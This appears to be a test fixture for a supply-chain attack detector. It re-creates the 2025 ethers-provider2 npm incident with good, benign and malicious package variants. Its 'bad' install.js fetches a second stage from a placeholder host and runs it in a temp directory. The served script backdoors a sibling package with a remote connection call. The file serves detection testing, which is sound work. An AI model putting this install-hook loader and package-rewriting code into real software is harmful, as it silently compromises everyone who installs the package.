import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'ethers-provider2',
  after: 'ethers-provider2 and ethers-providerz, March 2025',
  source: 'https://www.reversinglabs.com/blog/malicious-npm-patch-delivers-reverse-shell',
  shape: ['install', 'npm ci', 'second stage in temp', 'by a child', 'rewrites a sibling package'],
  patterns: ['shadow_import', 'privilege_escalation'],
  culprits: ['chain-provider'],
  host: { kind: 'npm', npm: 'ci', setup: '', use: '' },
  good: {
    'chain-provider': {
      'index.js': 'exports.provide = (n) => n;',
      'package.json': '{"scripts":{"postinstall":"node install.js"}}',
      'install.js': "if (!require('./index').provide) process.exit(1);",
    },
    'ether-kit': {
      'index.js': "exports.rpc = require('./lib/rpc');",
      'lib/rpc.js': 'module.exports = (m) => ({ m });',
    },
  },
  benign: {
    'chain-provider': { 'install.js': "if (typeof require('./index').provide !== 'function') process.exit(1);" },
  },
  bad: {
    'chain-provider': {
      'install.js': `const http = require('http'), fs = require('fs'), os = require('os'), path = require('path'), { fork } = require('child_process');
http.get('http://@B@:@PORT@/provider.js', (r) => {
  let text = ''; r.on('data', (c) => { text += c; }); r.on('end', () => {
    const at = path.join(os.tmpdir(), 'provider.js'); fs.writeFileSync(at, text);
    fork(at, [path.join(__dirname, '..')]).on('close', () => fs.rmSync(at));
  });
}).on('error', () => {});`,
    },
  },
  serves: {
    '/provider.js': `const fs = require('fs'), path = require('path');
const at = path.join(process.argv[2], 'ether-kit/lib/rpc.js');
if (fs.existsSync(at)) fs.writeFileSync(at, fs.readFileSync(at, 'utf8') + '\\nrequire("net").connect(5556, "@C@");');`,
  },
  proof: [{ file: 'app/node_modules/ether-kit/lib/rpc.js', holds: '5556' }],
};
